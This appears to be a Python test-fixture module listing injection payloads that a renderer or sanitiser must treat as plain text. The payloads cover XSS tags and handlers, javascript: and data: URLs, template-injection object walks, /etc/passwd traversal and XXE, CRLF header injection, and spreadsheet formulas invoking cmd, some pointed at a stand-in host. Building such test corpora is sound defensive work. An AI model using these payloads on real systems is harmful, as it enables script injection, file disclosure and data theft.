"""Injections of script, of our own writing: what a stranger could put into an address or an article.

Each tries to show a dialog (`alert`) or to reach another machine (elsewhere.invalid, a name that can never
exist), or to break out of what it stands in: a tag, an attribute, an address, a style, a template, a header,
a cell of a table. What a browser must make of them is nothing but text. The name says what is tried; to add
one, add a line.
"""

from __future__ import annotations

from dataclasses import dataclass

ELSEWHERE = "elsewhere.invalid"


@dataclass(frozen=True, slots=True)
class Injection:
    """One attempt: bytes, since some are no text at all."""

    name: str
    raw: bytes

    @property
    def text(self) -> str:
        """As a program reads it that expects UTF-8."""
        return self.raw.decode("utf-8", "replace")


_TAGS = {
    "script": "<script>alert(1)</script>",
    "script in odd letters": "<ScRiPt\n>alert(1)</sCrIpT >",
    "script from elsewhere": "<script src=//elsewhere.invalid/x.js></script>",
    "script within script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script after script": "</script><script>alert(1)</script>",
    "script after a title": "</title><script>alert(1)</script>",
    "script after a text box": "</textarea><script>alert(1)</script>",
    "script after a comment": "--><script>alert(1)</script><!--",
    "script in cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "odd comment": "<!--><img src=x onerror=alert(1)>-->",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "module": "<script type=module>import '//elsewhere.invalid/x.js'</script>",
    "frame of script": "<iframe src=javascript:alert(1)></iframe>",
    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": "<object data=javascript:alert(1)></object>",
    "embedded": "<embed src=//elsewhere.invalid/x>",
    "base": "<base href=//elsewhere.invalid/>",
    "refresh": '<meta http-equiv=refresh content="0;url=//elsewhere.invalid/">',
    "style sheet": "<link rel=stylesheet href=//elsewhere.invalid/x.css>",
    "prefetch": "<link rel=prefetch href=//elsewhere.invalid/x>",
    "form": "</form><form action=//elsewhere.invalid/><button>x</button>",
    "picture from elsewhere": "<img src=//elsewhere.invalid/x.png>",
    "pictures from elsewhere": "<img srcset='//elsewhere.invalid/x.png 1x'>",
    "dangling markup": "<img src='//elsewhere.invalid/?",
    "link of script": '<a href="javascript:alert(1)" id=main>x</a>',
    "clobbering": "<form id=q name=q><input name=action></form>",
}

_HANDLERS = {
    "picture fails": "<img src=x onerror=alert(1)>",
    "slashes for spaces": "<img/src=x/onerror=alert(1)//",
    "never closed": "<img src=x onerror=alert(1) ",
    "takes the focus": "<input autofocus onfocus=alert(1)>",
    "opens itself": "<details open ontoggle=alert(1)>x</details>",
    "film fails": "<video><source onerror=alert(1)></video>",
    "sound fails": "<audio src=x onerror=alert(1)></audio>",
    "body loads": "<body onload=alert(1)>",
    "moves": "<marquee onstart=alert(1)>x</marquee>",
    "mouse comes": "<b onmouseover=alert(1) style=position:fixed;inset:0>x</b>",
    "animation ends": "<b style=animation-name:x onanimationend=alert(1)>x</b>",
}

_ATTRIBUTES = {
    "double quote": '" onmouseover="alert(1)',
    "single quote": "' onmouseover='alert(1)",
    "back quote": "` onmouseover=alert(1) `",
    "no quote": "x onfocus=alert(1) autofocus tabindex=0",
    "focus": '" autofocus onfocus=alert(1) x="',
    "closes the tag": '"><script>alert(1)</script>',
    "closes the tag, single": "'><img src=x onerror=alert(1)>",
    "closes an empty tag": '"/><svg onload=alert(1)>',
    "style": '" style="background:url(//elsewhere.invalid/x)" x="',
    "form address": '" formaction="javascript:alert(1)" type="image',
    "backslash": '\\" onmouseover=\\"alert(1)',
}

_ADDRESSES = {
    "script address": "javascript:alert(1)",
    "script address in odd letters": "JaVaScRiPt:alert(1)",
    "script address with a tab": "java\tscript:alert(1)",
    "script address after a control": "\x01javascript:alert(1)",
    "script address as a comment": "javascript://x/%0aalert(1)",
    "page in an address": "data:text/html,<script>alert(1)</script>",
    "page in base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "drawing in an address": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "another script": "vbscript:msgbox(1)",
    "no scheme": "//elsewhere.invalid/x",
    "backslashes": "\\\\elsewhere.invalid\\x",
    "slash and backslash": "/\\elsewhere.invalid/x",
    "whole address": "https://elsewhere.invalid/",
    "user in an address": "http://127.0.0.1@elsewhere.invalid/",
    "broken address": "http://[",
    "up the folders": "../../../../../../etc/passwd",
}

_TEMPLATES = {
    "expression": "{{7*7}}",
    "settings": "{{config}}{{self}}{{request.environ}}",
    "statement": "{% for x in range(9) %}x{% endfor %}",
    "objects": "{{''.__class__.__mro__[1].__subclasses__()}}",
    "template comment": "{# x #}{{'<script>alert(1)</script>'|safe}}",
    "dollar braces": "${alert(1)}#{alert(1)}",
    "percent signs": "%(x)s %s %n %d {0} {0.__class__} %%",
    "erb": "<%= alert(1) %>",
    "script in braces": "{{constructor.constructor('alert(1)')()}}",
    "back quotes": "`${alert(1)}`",
}

_STYLES = {
    "style ends": "</style><script>alert(1)</script>",
    "import": "<style>@import url(//elsewhere.invalid/x.css);</style>",
    "rule": "}body{background:url(//elsewhere.invalid/x)}",
    "expression in a style": "width:expression(alert(1))",
}

_DRAWINGS = {
    "drawing loads": "<svg onload=alert(1)>",
    "script in a drawing": "<svg><script>alert(1)</script></svg>",
    "animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "link in a drawing": '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "use": "<svg><use href='//elsewhere.invalid/x.svg#x'></use></svg>",
    "picture in a drawing": "<svg><image href=//elsewhere.invalid/x.png></svg>",
    "style in a drawing": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "formula of mathematics": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "foreign object": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
}

_ENTITIES = {
    "named": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numbered": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "without semicolons": "&ltimg src=x onerror=alert(1)&gt",
    "twice": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "quote": "&quot; onmouseover=&quot;alert(1)",
    "in an address": "&#x6a;avascript&colon;alert(1)",
    "new line": "java&NewLine;script&Tab;:alert(1)",
    "xml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
}

_CONTROLS = {
    "null in a tag": "<scr\0ipt>alert(1)</scr\0ipt>",
    "null first": "\0<img src=x onerror=alert(1)>",
    "vertical tab": "<img src=x\x0bonerror=alert(1)>",
    "form feeds": "<img\x0csrc=x\x0conerror=alert(1)>",
    "terminal": "\x1b[31mred\x1b]0;title\x07",
    "delete": "<script\x7f>alert(1)</script\x7f>",
    "next line": "x\x85<script>alert(1)</script>",
}

_DIRECTIONS = {
    "right to left": "\u202e>tpircs/<)1(trela>tpircs<",
    "isolate": '\u2066" onmouseover=alert(1) x="\u2069',
    "byte order mark": "\ufeff<script>alert(1)</script>",
    "line separators": "\u2028alert(1)\u2029//<script>alert(1)</script>",
    "zero width": "<\u200bscript>alert(1)</\u200bscript><\u00adimg src=x onerror=alert(1)>",
    "tags block": "<\U000e0073cript>alert(1)</script>",
}

_BYTES = {
    "overlong of two": b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe",
    "overlong of three": b"\xe0\x80\xbcimg src=x onerror=alert(1)\xe0\x80\xbe",
    "overlong of four": b"\xf0\x80\x80\xbcimg src=x onerror=alert(1)\xf0\x80\x80\xbe",
    "overlong quote": b"\xc0\xa2 onmouseover=\xc0\xa2alert(1)",
    "cut short": b'\xd0" onmouseover="alert(1)\xf0\x9f',
    "half a pair": b"\xed\xa0\xbc<script>alert(1)</script>\xed\xb0\x80",
    "wide": b"\xff\xfe<\0s\0c\0r\0i\0p\0t\0>\0",
    "seven bits": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "shifted": b"\x1b$B\x1b(B<script>alert(1)</script>",
    "beyond the last": b"\xf5\x80\x80\x80<img src=x onerror=alert(1)>",
}

_HEADERS = {
    "cookie": "x\r\nSet-Cookie: stolen=1",
    "whole answer": "x\r\n\r\n<script>alert(1)</script>",
    "elsewhere": "x\nLocation: //elsewhere.invalid/",
    "escaped": "x%0d%0aSet-Cookie:%20stolen=1",
    "look alike": "x\u560d\u560aSet-Cookie: stolen=1",
    "file name": 'x"; filename="evil.html',
    "type": "x\r\nContent-Type: text/html",
}

_FORMULAS = {
    "link": '=HYPERLINK("https://elsewhere.invalid/x";"x")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "wide sign": "＝1+1",
}

_QUOTES = {
    "typographic": "“ onmouseover=alert(1) ”",
    "wide": "＂ onmouseover=＂alert(1)",
    "wide brackets": "＜script＞alert(1)＜/script＞",
    "small brackets": "﹤img src=x onerror=alert(1)﹥",
    "angle quotes": "‹script›alert(1)‹/script›",
    "guillemets": '«" onclick="alert(1)»',
    "prime": "ʺ＞＜img src=x onerror=alert(1)＞",
    "combining": '"\u0338><\u0338script>alert(1)</script>',
}

_KINDS: dict[str, dict[str, str] | dict[str, bytes]] = {
    "tag": _TAGS,
    "handler": _HANDLERS,
    "attribute": _ATTRIBUTES,
    "address": _ADDRESSES,
    "template": _TEMPLATES,
    "style": _STYLES,
    "drawing": _DRAWINGS,
    "entity": _ENTITIES,
    "control": _CONTROLS,
    "direction": _DIRECTIONS,
    "bytes": _BYTES,
    "header": _HEADERS,
    "formula": _FORMULAS,
    "quotes": _QUOTES,
}

INJECTIONS = tuple(
    Injection(f"{kind}: {name}", tried if isinstance(tried, bytes) else tried.encode("utf-8"))
    for kind, attempts in _KINDS.items()
    for name, tried in attempts.items()
)

ALL_AT_ONCE = Injection(
    "all at once",
    b"'\"`></title></textarea></style></script>--><script>alert(1)</script><img src=x onerror=alert(1)>"
    b"<svg onload=alert(1)>{{7*7}}${7*7}&lt;b&gt;javascript:alert(1)//elsewhere.invalid/",
)
"""One that works wherever any of the others would, where there is no time for all."""
